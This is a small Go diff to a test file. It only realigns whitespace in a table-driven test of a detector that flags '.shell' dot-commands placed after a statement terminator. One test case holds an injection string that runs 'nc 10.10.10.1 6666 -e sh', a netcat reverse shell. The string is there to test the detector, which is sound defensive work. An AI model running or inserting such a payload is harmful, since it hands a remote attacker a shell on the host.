@@ -8,7 +8,7 @@ import "testing"
 // dotted names do not.
 func TestShellFindsDotCommandsAfterATerminator(t *testing.T) {
 	for _, c := range []struct {
-		name, s           string
+		name, s          string
 		normal, paranoid bool
 	}{
 		{"shell after a newline", ";\n.shell nc 10.10.10.1 6666 -e sh\n", true, true},
